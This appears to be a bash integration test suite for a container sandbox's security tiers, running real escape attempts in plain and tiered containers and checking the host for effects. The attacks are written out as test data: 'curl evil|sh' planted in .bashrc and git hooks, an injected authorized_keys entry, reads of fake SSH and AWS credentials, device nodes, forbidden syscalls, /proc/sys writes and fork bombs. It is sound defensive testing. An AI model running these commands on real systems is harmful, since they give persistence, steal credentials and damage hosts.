# Tiers against real attacks (issue 4). Each attack is first run in a plain
# container (same bundle, no io.agentcage.tier) and shown to work from the
# host's point of view; then the same bundle with the tier annotation, and
# the host must see nothing: file unchanged, listener silent, create refused
# with nothing left behind. Checks are made on the host, never only on what
# the container prints.

source "$IT_DIR/tiers_lib.sh"

# ---------------------------------------------------------------- filesystem

test_write_root_fs() {
    # a private writable copy of the rootfs, so the plain run can really write
    cp -a "$ROOTFS" "$T/rootfs"
    ATTACK_CFG=('.root = {path: "'"$T/rootfs"'", readonly: false}')
    attack plain /bin/probe write /etc/pwned
    assert_eq "$OUT" ok "plain container writes its root"
    [ -f "$T/rootfs/etc/pwned" ] || fail "plain write not on the host"
    rm -f "$T/rootfs/etc/pwned"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c '/bin/probe write /etc/pwned; /bin/probe write /bin/probe; /bin/probe syscall mkdir /pwned-dir'
        assert_eq "$RC" 0 "tier $t exit: $OUT"
        assert_match "$OUT" '^(EROFS|EACCES)' "tier $t write to root"
        assert_not_contains "$OUT" ok "tier $t writes"
        [ -e "$T/rootfs/etc/pwned" ] && fail "tier $t wrote the root fs on the host"
        [ -e "$T/rootfs/pwned-dir" ] && fail "tier $t made a dir in the root fs"
        cmp -s "$ROOTFS/bin/probe" "$T/rootfs/bin/probe" || fail "tier $t overwrote /bin/probe"
    done
    return 0
}

test_write_bind_mount_tier0() {
    mkdir -p "$T/proj" && echo original > "$T/proj/file"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/proj" rw)")
    attack plain /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new'
    assert_eq "$(cat "$T/proj/file")" evil "plain writes through a rw bind"
    [ -f "$T/proj/new" ] || fail "plain create not on the host"
    echo original > "$T/proj/file"; rm -f "$T/proj/new"
    attack 0 /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new; /bin/probe mkdir /mnt/a/d; rm -f /mnt/a/file; echo done'
    assert_contains "$OUT" done "tier 0 ran: $OUT"
    assert_eq "$(cat "$T/proj/file")" original "tier 0: host file unchanged"
    [ -e "$T/proj/new" ] || [ -e "$T/proj/d" ] && fail "tier 0 created a file on the host"
    # tier 1 is the write tier: the project mount is writable on purpose
    attack 1 /bin/probe write /mnt/a/new
    assert_eq "$OUT" ok "tier 1 writes its project mount"
    [ -f "$T/proj/new" ] || fail "tier 1 write not on host"
    return 0
}

test_write_tmpfs_outside_landlock() {
    # a rw tmpfs of the config's own at /mnt/b: the tier's Landlock keeps
    # writes to /workspace, /tmp and project mounts
    ATTACK_CFG=('.mounts += [{destination: "/mnt/b", type: "tmpfs", source: "tmpfs", options: ["size=1m"]}]')
    attack plain /bin/probe write /mnt/b/x
    assert_eq "$OUT" ok "plain writes its tmpfs"
    local t
    for t in 0 1; do
        attack $t /bin/sh -c '/bin/probe write /workspace/x; /bin/probe write /tmp/x; /bin/probe write /run/x'
        assert_eq "$(echo "$OUT" | head -2 | tr '\n' ' ')" "ok ok " "tier $t workspace and tmp writable"
        assert_match "$(echo "$OUT" | sed -n 3p)" '^(EROFS|EACCES)$' "tier $t /run"
    done
    return 0
}

test_bind_source_symlink_planted_by_host() {
    mkdir -p "$T/shared" "$T/secret"
    echo "TOP-SECRET" > "$T/secret/data"
    ln -s ../secret "$T/shared/project"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/shared/project" rw)")
    attack plain /bin/cat /mnt/a/data
    assert_eq "$OUT" TOP-SECRET "plain bind follows project -> ../secret"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/cat /mnt/a/data
        assert_not_contains "$OUT" TOP-SECRET "tier $t"
        assert_refused symlink
    done
    # a symlink in an earlier component of the path
    mkdir -p "$T/real/proj" && ln -s real "$T/linkdir"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/linkdir/proj" rw)")
    attack 1 /bin/true
    assert_refused symlink
    return 0
}

test_bind_source_symlink_planted_by_container() {
    # a tier-1 container plants project -> ../secret in a shared folder it
    # may write; the next container binding shared/project must not get the
    # secret
    mkdir -p "$T/shared" "$T/secret"
    echo "TOP-SECRET" > "$T/secret/data"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/shared" rw)")
    attack 1 /bin/ln -s ../secret /mnt/a/project
    assert_eq "$RC" 0 "tier 1 may write its project mount: $OUT"
    [ -L "$T/shared/project" ] || fail "planted symlink not on the host"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/shared/project" rw)")
    attack plain /bin/cat /mnt/a/data
    assert_eq "$OUT" TOP-SECRET "plain next container follows the plant"
    local t
    for t in 0 1; do
        attack $t /bin/cat /mnt/a/data
        assert_refused symlink
    done
    return 0
}

test_symlink_inside_bind_mount_stays_in_container() {
    # symlinks inside a bind mount resolve in the container's root: a link
    # to ../secret or to the host's absolute path does not reach the host
    mkdir -p "$T/proj" "$T/secret"
    echo "TOP-SECRET" > "$T/secret/data"
    ln -s ../secret "$T/proj/up"
    ln -s "$T/secret/data" "$T/proj/abs"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/proj" rw)")
    local t
    for t in plain 0 1; do
        attack $t /bin/sh -c 'cat /mnt/a/up/data /mnt/a/abs /mnt/a/../../secret/data 2>&1; echo evil > /mnt/a/abs; echo end'
        assert_not_contains "$OUT" TOP-SECRET "$t read through a symlink"
        assert_eq "$(cat "$T/secret/data")" TOP-SECRET "$t: host secret unchanged"
    done
    return 0
}

test_ssh_key_in_bind_mounted_home() {
    plant_home "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" ro)")
    attack plain /bin/sh -c 'cat /home/agent/.ssh/id_rsa /home/agent/.aws/credentials'
    assert_contains "$OUT" FAKE-PRIVATE-KEY "plain reads the key"
    assert_contains "$OUT" FAKE-AWS "plain reads aws credentials"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c 'cat /home/agent/.ssh/id_rsa /home/agent/.aws/credentials; ls -la /home/agent/.ssh; grep -r FAKE /home/agent 2>/dev/null; echo end'
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_not_contains "$OUT" FAKE-PRIVATE-KEY "tier $t read the ssh key"
        assert_not_contains "$OUT" FAKE-AWS "tier $t read aws credentials"
    done
    return 0
}

test_ssh_dir_itself_as_bind_source_refused() {
    plant_home "$T/home"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/home/.ssh" ro)")
    attack plain /bin/cat /mnt/a/id_rsa
    assert_eq "$OUT" FAKE-PRIVATE-KEY "plain binds .ssh"
    attack 0 /bin/cat /mnt/a/id_rsa
    assert_refused .ssh
    return 0
}

test_rc_files_and_git_hooks_tier1() {
    plant_home "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    local script='
        echo "curl evil|sh" >> /home/agent/.bashrc
        echo "curl evil|sh" > /home/agent/.git/hooks/pre-commit
        echo "[core] hooksPath=/tmp" >> /home/agent/.git/config
        echo end'
    attack plain /bin/sh -c "$script"
    assert_contains "$(cat "$T/home/.bashrc")" evil "plain writes .bashrc"
    assert_contains "$(cat "$T/home/.git/hooks/pre-commit")" evil "plain writes the hook"
    rm -rf "$T/home"; plant_home "$T/home"
    local before; before="$(tree_sum "$T/home")"
    local t
    for t in 1 2 3; do
        attack $t /bin/sh -c "$script"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_eq "$(tree_sum "$T/home")" "$before" "tier $t changed the home on the host"
        # ... while the rest of the home is writable at these tiers: inside
        # its existing folders (no new name may appear at a home's top)
        attack $t /bin/probe write /home/agent/proj/notes.txt
        assert_eq "$OUT" ok "tier $t writes an ordinary file in a folder of the home"
        rm -f "$T/home/proj/notes.txt"
        attack $t /bin/probe write /home/agent/notes.txt
        assert_ne "$OUT" ok "tier $t creates a new name at the top of the home"
        [ ! -e "$T/home/notes.txt" ] || fail "tier $t created notes.txt at the top of the home"
    done
    return 0
}

test_rc_files_replace_tricks_tier1() {
    # go around the read-only file: unlink/rename it, or rename its parent
    plant_home "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    local before; before="$(tree_sum "$T/home")"
    attack 1 /bin/sh -c '
        cd /home/agent
        rm -f .bashrc; mv .bashrc .bashrc.old; ln -sf /tmp/x .bashrc
        rm -rf .git/hooks; mv .git/hooks .git/hooks.old
        echo end'
    assert_contains "$OUT" end "tier 1 ran: $OUT"
    assert_eq "$(tree_sum "$T/home")" "$before" "tier 1 replaced an rc file or hook on the host"
    return 0
}

test_git_dir_rename_trick_tier1() {
    # .git/hooks is a read-only mount, but .git itself is an ordinary
    # directory in a writable mount: rename it away and build a new one
    plant_home "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    attack 1 /bin/sh -c '
        cd /home/agent
        mv .git .git.old && mkdir -p .git/hooks && echo "curl evil|sh" > .git/hooks/pre-commit
        echo end'
    assert_contains "$OUT" end "tier 1 ran: $OUT"
    if grep -q evil "$T/home/.git/hooks/pre-commit" 2>/dev/null; then
        fail "tier 1: renaming ~/.git away and recreating it left an attacker's ~/.git/hooks/pre-commit on the host"
    fi
    return 0
}

# Probes for rc files / credential dirs that do not exist yet at create and
# for a repository one level down; see the report: these are gaps if the
# host sees them.
test_absent_rc_files_and_nested_hooks_tier1() {
    plant_home "$T/home"
    rm -rf "$T/home/.ssh" "$T/home/.aws"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    attack 1 /bin/sh -c '
        cd /home/agent
        echo "curl evil|sh" > .profile
        mkdir -p .ssh && echo "ssh-ed25519 EVIL" > .ssh/authorized_keys
        echo "curl evil|sh" > proj/.git/hooks/pre-commit
        echo end'
    assert_contains "$OUT" end "tier 1 ran: $OUT"
    local leaked=""
    [ -e "$T/home/.profile" ] && leaked="$leaked ~/.profile created;"
    [ -e "$T/home/.ssh/authorized_keys" ] && leaked="$leaked ~/.ssh/authorized_keys created;"
    grep -q evil "$T/home/proj/.git/hooks/pre-commit" && leaked="$leaked ~/proj/.git/hooks/pre-commit written;"
    [ -z "$leaked" ] || fail "tier 1 let the container write on the host:$leaked"
    return 0
}

# ---------------------------------------------------------------- devices

test_devices_mknod_and_kmsg() {
    # plain: CAP_MKNOD and a device-cgroup rule let the container make and
    # read /dev/kmsg (the host's kernel log) and make a block device node
    local caps='["CAP_MKNOD"]'
    ATTACK_CFG=(".process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps}"
                '.linux.resources.devices += [{allow: true, type: "c", major: 1, minor: 11, access: "rwm"}, {allow: true, type: "b", major: 8, access: "rwm"}]')
    local marker="agentcage-it-kmsg-$TEST_ID"
    local script="mknod /dev/kmsg c 1 11 && echo $marker-\$1 > /dev/kmsg && echo kmsg-written; mknod /dev/sdx b 8 0 && echo blk-made; echo end"
    attack plain /bin/sh -c "$script" sh plain
    assert_contains "$OUT" kmsg-written "plain writes /dev/kmsg"
    dmesg | grep -q "$marker-plain" || fail "plain's line not in the host's kernel log"
    assert_contains "$OUT" blk-made "plain makes a block device"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c "$script; ls /dev" sh "tier$t"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        dmesg | grep -q "$marker-tier$t" && fail "tier $t wrote to the host's kernel log"
        assert_not_contains "$OUT" blk-made "tier $t made a block device"
        assert_not_contains "$OUT" sda "tier $t /dev"
    done
    # a host device asked for in linux.devices is refused
    ATTACK_CFG=('.linux.devices = [{path: "/dev/kmsg", type: "c", major: 1, minor: 11}]'
                '.linux.resources.devices += [{allow: true, type: "c", major: 1, minor: 11, access: "rw"}]')
    attack plain /bin/sh -c "echo $marker-dev > /dev/kmsg && echo kmsg-written"
    assert_contains "$OUT" kmsg-written "plain writes a configured /dev/kmsg"
    attack 1 /bin/true
    assert_refused /dev/kmsg
    return 0
}

# ---------------------------------------------------------------- syscalls

TA_SYSCALLS="mount umount pivot_root ptrace kexec_load reboot init_module finit_module bpf perf_event_open userfaultfd keyctl add_key request_key unshare-user setns io_uring_setup open_by_handle_at clone-newns"
# one line NAME=RESULT per forbidden call (umount of a missing path: ENOENT
# once it reaches the kernel; personality 6 is PER_BSD)
ta_syscall_script() {
    echo "for s in $TA_SYSCALLS; do echo \$s=\$(/bin/probe syscall \$s \$( [ \$s = umount ] && echo /nonexistent)); done
echo personality=\$(/bin/probe syscall personality 6)
echo af_packet=\$(/bin/probe socket packet raw)
echo sock_raw=\$(/bin/probe socket inet raw)"
}

test_forbidden_syscalls() {
    local script; script="$(ta_syscall_script)"
    local caps='["CAP_SYS_ADMIN","CAP_SYS_PTRACE","CAP_SYS_BOOT","CAP_SYS_MODULE","CAP_BPF","CAP_PERFMON","CAP_NET_RAW","CAP_DAC_READ_SEARCH"]'
    ATTACK_CFG=(".process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps}")
    attack plain /bin/sh -c "$script"
    assert_eq "$(echo "$OUT" | wc -l)" 22 "plain: one line per call: $OUT"
    # every call reaches the kernel (ENOSYS: this kernel lacks kexec/modules)
    assert_not_contains "$OUT" EPERM "plain, privileged: a call refused"
    attack 1 /bin/sh -c "$script"
    assert_refused CAP_SYS_ADMIN
    # the default config's capabilities: these still reach the kernel...
    ATTACK_CFG=()
    attack plain /bin/sh -c "$script"
    local c
    for c in umount ptrace perf_event_open userfaultfd keyctl add_key request_key unshare-user io_uring_setup personality; do
        assert_not_contains "$(echo "$OUT" | grep "^$c=")" EPERM "plain, default caps: $c"
    done
    # ... and at every tier each one is refused by the tier's seccomp filter;
    # from tier 1 each refusal is counted (here never a reason to kill: the
    # operator's max-denials is 0)
    export AGENTCAGE_CONF="$T/agentcage.conf"
    echo "max-denials = 0" > "$AGENTCAGE_CONF"
    local t line
    for t in 0 1 2 3; do
        attack $t /bin/sh -c "$script"
        assert_eq "$(echo "$OUT" | wc -l)" 22 "tier $t: one line per call: $OUT"
        while read -r line; do
            assert_eq "${line#*=}" EPERM "tier $t: ${line%%=*}"
        done <<< "$OUT"
        local want=22
        [ $t == 0 ] && want=0
        grep -F "\"event\":\"container-exited\",\"id\":\"$CID\"" "$T/state/audit.jsonl" | grep -qF "\"seccompDenials\":$want," ||
            fail "tier $t: $want refusals counted: $(grep -F "\"id\":\"$CID\"" "$T/state/audit.jsonl" | tail -1)"
    done
    return 0
}

# One filter per tier (issue 20): the tier's listener variant alone, and the
# config's own profile under it when the config brings one (as engines do);
# every filter on a task costs each syscall the kernel's seccomp entry path
# (docs/tiers.md), so nothing else is stacked. A refusal still reaches the
# watchdog through the stack and is counted.
test_tier_filters_stacked() {
    local script='grep -E "^Seccomp(_filters)?:" /proc/self/status | tr -s "\t" " "; /bin/probe syscall mount /tmp'
    export AGENTCAGE_CONF="$T/agentcage.conf"
    echo "max-denials = 0" > "$AGENTCAGE_CONF"
    sh_attack plain "$script"
    assert_contains "$OUT" "Seccomp: 0" "plain: no filter ($OUT)"
    local t
    for t in 0 1 2 3; do
        sh_attack $t "$script"
        assert_contains "$OUT" "Seccomp_filters: 1" "tier $t: one filter ($OUT)"
        assert_contains "$OUT" EPERM "tier $t: mount refused ($OUT)"
    done
    # the count shows the tier's filter answered (without CAP_SYS_ADMIN the
    # kernel itself would say EPERM too, uncounted)
    ATTACK_CFG=('.linux.seccomp = {defaultAction: "SCMP_ACT_ALLOW", architectures: ["SCMP_ARCH_X86_64"], syscalls: [{names: ["kexec_load"], action: "SCMP_ACT_ERRNO"}]}')
    sh_attack plain "$script"
    assert_contains "$OUT" "Seccomp_filters: 1" "plain with a profile: its filter ($OUT)"
    sh_attack 1 "$script"
    assert_contains "$OUT" "Seccomp_filters: 2" "tier 1 with a profile: the config's and the tier's ($OUT)"
    assert_contains "$OUT" EPERM "tier 1 with a profile: mount refused ($OUT)"
    grep -F "\"event\":\"container-exited\",\"id\":\"$CID\"" "$T/state/audit.jsonl" | grep -qF '"seccompDenials":1,' ||
        fail "tier 1 with a profile: the refusal counted: $(grep -F "\"id\":\"$CID\"" "$T/state/audit.jsonl" | tail -1)"
    return 0
}

test_tier0_no_inet_sockets() {
    local script='/bin/probe socket inet stream; /bin/probe socket inet dgram; /bin/probe socket inet6 stream; /bin/probe socket unix stream'
    attack plain /bin/sh -c "$script"
    assert_eq "$(echo $OUT)" "ok ok ok ok" "plain sockets"
    attack 0 /bin/sh -c "$script"
    assert_eq "$(echo $OUT)" "EPERM EPERM EPERM ok" "tier 0 sockets"
    attack 1 /bin/sh -c "$script"
    assert_eq "$(echo $OUT)" "ok ok ok ok" "tier 1 sockets"
}

# ---------------------------------------------------------------- network

# ta_listener: TCP and UDP listeners on the host's 127.0.0.1; every
# connection or datagram is logged to $T/heard. Sets TCP_PORT, UDP_PORT.
ta_listener() {
    cat > "$T/listen.py" <<'PY'
import socket, sys, threading
out = sys.argv[1]
def log(s):
    with open(out, "a") as f: f.write(s + "\n")
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
def tcp():
    while True:
        c, a = t.accept(); c.settimeout(1)
        try: d = c.recv(200)
        except Exception: d = b""
        log("tcp " + repr(d)); c.close()
def udp():
    while True:
        d, a = u.recvfrom(200); log("udp " + repr(d))
threading.Thread(target=tcp, daemon=True).start()
threading.Thread(target=udp, daemon=True).start()
open(out + ".ports.tmp", "w").write("%d %d\n" % (t.getsockname()[1], u.getsockname()[1]))
import os; os.rename(out + ".ports.tmp", out + ".ports")
threading.Event().wait()
PY
    : > "$T/heard"
    bg "$PYTHON3" "$T/listen.py" "$T/heard"
    local i
    for ((i = 0; i < 100; i++)); do [ -s "$T/heard.ports" ] && break; sleep 0.05; done
    [ -s "$T/heard.ports" ] || fail "listener did not start"
    read -r TCP_PORT UDP_PORT < "$T/heard.ports"
    LISTENER_PID=$BG_PID
}
ta_stop_listener() { kill "$LISTENER_PID" 2>/dev/null; wait "$LISTENER_PID" 2>/dev/null; return 0; }

test_host_loopback_tcp_udp() {
    ta_listener
    local script="/bin/probe connect 127.0.0.1 $TCP_PORT; /bin/probe udp 127.0.0.1 $UDP_PORT"
    # plain, in the host's network namespace: the host hears both
    ATTACK_CFG=('.linux.namespaces |= map(select(.type != "network"))')
    attack plain /bin/sh -c "$script"
    assert_eq "$(echo $OUT)" "ok ok" "plain host-net connect"
    sleep 0.2
    assert_contains "$(cat "$T/heard")" tcp "host heard tcp"
    assert_contains "$(cat "$T/heard")" udp "host heard udp"
    : > "$T/heard"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c "$script"
        assert_refused "network namespace"
    done
    # the tiers with their own network namespace: 127.0.0.1 is not the host's
    ATTACK_CFG=()
    for t in 0 1 2 3; do
        attack $t /bin/sh -c "$script; echo end"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_not_contains "$(echo "$OUT" | head -1)" ok "tier $t tcp connect"
    done
    sleep 0.3
    assert_eq "$(cat "$T/heard")" "" "host listener heard a tiered container"
    ta_stop_listener
}

test_tier2_proxy_refuses_host_loopback() {
    ta_listener
    # through the tier's egress proxy, with and without an allowlist
    local script="printf 'CONNECT 127.0.0.1:$TCP_PORT HTTP/1.1\r\n\r\n' | busybox nc -w 2 127.0.0.1 3128 | head -1
printf 'GET http://127.0.0.1:$TCP_PORT/ HTTP/1.0\r\n\r\n' | busybox nc -w 2 127.0.0.1 3128 | head -1
printf 'GET http://localhost:$TCP_PORT/ HTTP/1.0\r\n\r\n' | busybox nc -w 2 127.0.0.1 3128 | head -1
echo end"
    local t
    for t in 2 3; do
        ATTACK_ANN='{"io.agentcage.egress": "localhost:'"$TCP_PORT"',example.com"}'
        attack $t /bin/sh -c "$script"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_not_contains "$OUT" " 200 " "tier $t proxy answered 200"
        assert_eq "$(echo "$OUT" | grep -c ' 403 ')" 3 "tier $t proxy refusals: $OUT"
    done
    sleep 0.3
    assert_eq "$(cat "$T/heard")" "" "host listener heard the proxy"
    ta_stop_listener
}

# ---------------------------------------------------------------- /proc/sys, /sys

test_proc_sys_and_sys_writes() {
    local sysctl=/proc/sys/kernel/printk_ratelimit_burst param=/sys/module/printk/parameters/time
    local v0 p0; v0="$(cat $sysctl)"; p0="$(cat $param)"
    trap "echo $v0 > $sysctl; echo $p0 > $param" EXIT
    local v1=$((v0 + 7)) p1; [ "$p0" == Y ] && p1=N || p1=Y
    # plain, /proc/sys and /sys writable: a root container changes the host
    ATTACK_CFG=('.linux.readonlyPaths |= map(select(. != "/proc/sys"))'
                '.mounts |= map(if .destination == "/sys" then .options |= map(select(. != "ro")) else . end)')
    local script="echo $v1 > $sysctl; echo $p1 > $param; echo end"
    attack plain /bin/sh -c "$script"
    assert_eq "$(cat $sysctl)" "$v1" "plain changed the host's sysctl"
    assert_eq "$(cat $param)" "$p1" "plain changed the host's /sys"
    echo "$v0" > $sysctl; echo "$p0" > $param
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c "$script"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_eq "$(cat $sysctl)" "$v0" "tier $t changed the host's sysctl"
        assert_eq "$(cat $param)" "$p0" "tier $t changed the host's /sys"
    done
    return 0
}

# ---------------------------------------------------------------- limits

test_fork_loop() {
    attack plain /bin/probe fork-bomb 150
    assert_eq "$OUT" "forked 150" "plain forks"
    attack 1 /bin/probe fork-bomb 150
    assert_match "$OUT" '^forked [0-9]+ EAGAIN$' "tier 1 fork loop stopped"
    local n; n="$(echo "$OUT" | awk '{print $2}')"
    [ "$n" -lt 64 ] || fail "tier 1 forked $n (limit 64)"
    attack 3 /bin/probe fork-bomb 150
    assert_match "$OUT" '^forked [0-9]+ EAGAIN$' "tier 3 fork loop stopped"
    n="$(echo "$OUT" | awk '{print $2}')"
    [ "$n" -lt 32 ] || fail "tier 3 forked $n (limit 32)"
    # a shell fork loop: the tier still ends (pids + timeout are the wall)
    ATTACK_ANN='{"io.agentcage.pids": "16"}'
    attack 0 /bin/probe fork-bomb 150
    n="$(echo "$OUT" | awk '{print $2}')"
    [ "$n" -lt 16 ] || fail "tier 0 with pids=16 forked $n"
    return 0
}

test_memory_balloon() {
    attack plain /bin/probe hog-mem 300
    assert_eq "$OUT" "ok 300 MB" "plain allocates 300 MB"
    attack 3 /bin/probe hog-mem 300
    assert_not_contains "$OUT" "ok 300" "tier 3 (256m) allocated 300 MB"
    assert_ne "$RC" 0 "tier 3 exit"
    ATTACK_ANN='{"io.agentcage.memory": "64m"}'
    local t
    for t in 0 1; do
        attack $t /bin/probe hog-mem 100
        assert_not_contains "$OUT" "ok 100" "tier $t (64m) allocated 100 MB"
        assert_eq "$RC" 137 "tier $t killed by the OOM killer ($OUT)"
    done
    return 0
}

test_disk_balloon_workspace() {
    # plain: /workspace bound to a host dir, the writes land on the host disk
    mkdir -p "$T/ws"
    ATTACK_CFG=("$(bind_mount /workspace "$T/ws" rw)")
    attack plain /bin/sh -c 'dd if=/dev/zero of=/workspace/big bs=1M count=20 2>&1 | tail -1'
    [ "$(stat -c %s "$T/ws/big")" == $((20 << 20)) ] || fail "plain did not write 20 MB to the host"
    rm -f "$T/ws/big"
    # tier 0: the project mount is read-only
    attack 0 /bin/sh -c 'dd if=/dev/zero of=/workspace/big bs=1M count=20; echo end'
    [ -e "$T/ws/big" ] && fail "tier 0 wrote to the host's workspace dir"
    # the tier's own /workspace tmpfs: ENOSPC at the cap, nothing on the host
    ATTACK_CFG=()
    ATTACK_ANN='{"io.agentcage.workspace-size": "8m"}'
    local t
    for t in 0 1; do
        attack $t /bin/sh -c 'dd if=/dev/zero of=/workspace/big bs=1M count=20 2>&1; ls -l /workspace/big'
        assert_contains "$OUT" "No space left" "tier $t ENOSPC"
        assert_match "$OUT" " 8388608 " "tier $t file capped at 8m"
    done
    ATTACK_ANN='{}'
    attack 0 /bin/sh -c 'dd if=/dev/zero of=/workspace/big bs=1M count=80 2>&1 | head -1; df -k /workspace | tail -1'
    assert_contains "$OUT" "No space left" "tier 0 default 64m workspace"
    return 0
}

# A host directory bound at /workspace replaces the tier's tmpfs at tier 1:
# the io.agentcage.workspace-size cap the annotation asked for does not hold.
test_workspace_bind_mount_size_cap() {
    mkdir -p "$T/ws"
    ATTACK_CFG=("$(bind_mount /workspace "$T/ws" rw)")
    ATTACK_ANN='{"io.agentcage.workspace-size": "8m"}'
    attack 1 /bin/sh -c 'dd if=/dev/zero of=/workspace/big bs=1M count=20 2>&1 | tail -1'
    local sz; sz="$(stat -c %s "$T/ws/big" 2>/dev/null || echo 0)"
    [ "$sz" -le $((8 << 20)) ] || fail "tier 1 with workspace-size=8m and a host bind at /workspace wrote $sz bytes to the host"
    return 0
}

# ta_start TIER ARGS...: create + start a detached container; sets CID.
ta_start() {
    local tier="$1"; shift
    CID="$(new_id)"
    make_bundle "$CID" "$@"
    local f
    for f in "${ATTACK_CFG[@]}"; do cfg "$f"; done
    if [ "$tier" != plain ]; then
        cfg --arg t "$tier" --argjson a "$ATTACK_ANN" '.annotations = ((.annotations // {}) + $a + {"io.agentcage.tier": $t})'
        [ -z "${ATTACK_KERNEL:-}" ] || cfg --arg k "$ATTACK_KERNEL" '.annotations["io.agentcage.kernel"] = $k'
    else
        cfg --argjson a "$ATTACK_ANN" '.annotations = ((.annotations // {}) + $a)'
    fi
    trt create --bundle "$BUNDLE" "$CID" > "$T/$CID.out" 2> "$T/$CID.err" < /dev/null \
        || fail "create $CID: $(head -c 400 "$T/$CID.err")"
    track_pid "$(cpid "$CID")"
    # on failure, delete with trt here: the runner's cleanup would delete
    # without --audit-log and write the default audit log
    echo "$CID" >> "$T/.ta_started"
    trap 'for c in $(cat "$T/.ta_started"); do trt delete --force "$c" > /dev/null 2>&1; done' EXIT
    ok trt start "$CID"
}

cg_usage() { cat "/sys/fs/cgroup/cpuacct/$CGROUP_PARENT/$1/cpuacct.usage" 2>/dev/null || cat "/sys/fs/cgroup/cpu,cpuacct/$CGROUP_PARENT/$1/cpuacct.usage"; }

test_cpu_hog_throttled() {
    local hog='/bin/probe spin 30 & /bin/probe spin 30 & wait'
    ta_start plain /bin/sh -c "$hog"; local plain=$CID
    ATTACK_ANN='{"io.agentcage.cpus": "0.25"}'
    ta_start 1 /bin/sh -c "$hog"; local tier=$CID
    local q; q="$(cat /sys/fs/cgroup/cpu/$CGROUP_PARENT/$tier/cpu.cfs_quota_us 2>/dev/null || cat /sys/fs/cgroup/cpu,cpuacct/$CGROUP_PARENT/$tier/cpu.cfs_quota_us)"
    local p; p="$(cat /sys/fs/cgroup/cpu/$CGROUP_PARENT/$tier/cpu.cfs_period_us 2>/dev/null || cat /sys/fs/cgroup/cpu,cpuacct/$CGROUP_PARENT/$tier/cpu.cfs_period_us)"
    assert_eq "$((q * 100 / p))" 25 "tier 1 cpu quota (cpus=0.25): $q/$p"
    sleep 0.3
    local a0 b0 a1 b1; a0="$(cg_usage $plain)"; b0="$(cg_usage $tier)"
    sleep 1.5
    a1="$(cg_usage $plain)"; b1="$(cg_usage $tier)"
    local pu=$(( (a1 - a0) / 1000000 )) tu=$(( (b1 - b0) / 1000000 ))
    echo "cpu ms in 1.5 s: plain $pu, tier $tu"
    # 0.25 CPU for 1.5 s is 375 ms (+ one period of slack); the plain hog,
    # sharing 2 CPUs with the host's other work, gets clearly more
    [ "$tu" -le 500 ] || fail "tier 1 cpus=0.25 hog used ${tu} ms in 1.5 s"
    [ "$pu" -gt $((tu * 3 / 2)) ] && [ "$pu" -gt 500 ] || fail "plain hog used only ${pu} ms in 1.5 s (tier ${tu} ms)"
    ok trt delete --force "$plain"
    ok trt delete --force "$tier"
}

test_timeout_kills() {
    ATTACK_ANN='{"io.agentcage.timeout": "2s"}'
    ta_start plain /bin/probe sleep 30; local plain=$CID
    ta_start 1 /bin/probe sleep 30; local tier=$CID
    wait_status "$tier" stopped 6
    assert_eq "$(cstatus "$plain")" running "plain ignores io.agentcage.timeout"
    [ -f "$ROOT/$tier/timeout" ] || fail "no timeout marker in $ROOT/$tier: $(ls "$ROOT/$tier")"
    assert_contains "$(cat "$ROOT/$tier/timeout")" '"timeoutMs":2000' "marker"
    ok trt delete "$tier"
    assert_contains "$(cat "$T/state/audit.jsonl")" '"event":"timeout-kill"' "audit records the timeout"
    ok trt delete --force "$plain"
}

# The watchdog drops what it does not need before it waits: CAP_KILL alone
# (bounding set too), no_new_privs, its own seccomp filter (Landlock has no
# /proc field); test_timeout_kills shows it still kills on time.
test_watchdog_confined() {
    ATTACK_ANN='{"io.agentcage.timeout": "30s"}'
    ta_start 1 /bin/probe sleep 30
    local wd; wd="$(jq -r '.watchdogPid // empty' "$ROOT/$CID/state.json")"
    [ -n "$wd" ] && [ -d "/proc/$wd" ] || fail "no watchdog in $(cat "$ROOT/$CID/state.json")"
    local st="/proc/$wd/status"
    assert_eq "$(awk '$1 == "CapEff:" {print $2}' "$st")" 0000000000000020 "watchdog CapEff (CAP_KILL)"
    assert_eq "$(awk '$1 == "CapPrm:" {print $2}' "$st")" 0000000000000020 "watchdog CapPrm"
    assert_eq "$(awk '$1 == "CapBnd:" {print $2}' "$st")" 0000000000000020 "watchdog CapBnd"
    assert_eq "$(awk '$1 == "NoNewPrivs:" {print $2}' "$st")" 1 "watchdog NoNewPrivs"
    assert_eq "$(awk '$1 == "Seccomp:" {print $2}' "$st")" 2 "watchdog Seccomp"
    ok trt delete --force "$CID"
}

# ---------------------------------------------------------------- environment

test_secret_env_scrubbed() {
    ATTACK_CFG=('.process.env += ["AWS_SECRET_ACCESS_KEY=FAKE-AWS", "GITHUB_TOKEN=FAKE-GH", "DB_PASSWORD=FAKE-DB", "OPENAI_API_KEY=FAKE-OAI", "SSH_AUTH_SOCK=/tmp/agent.sock", "HARMLESS=visible"]')
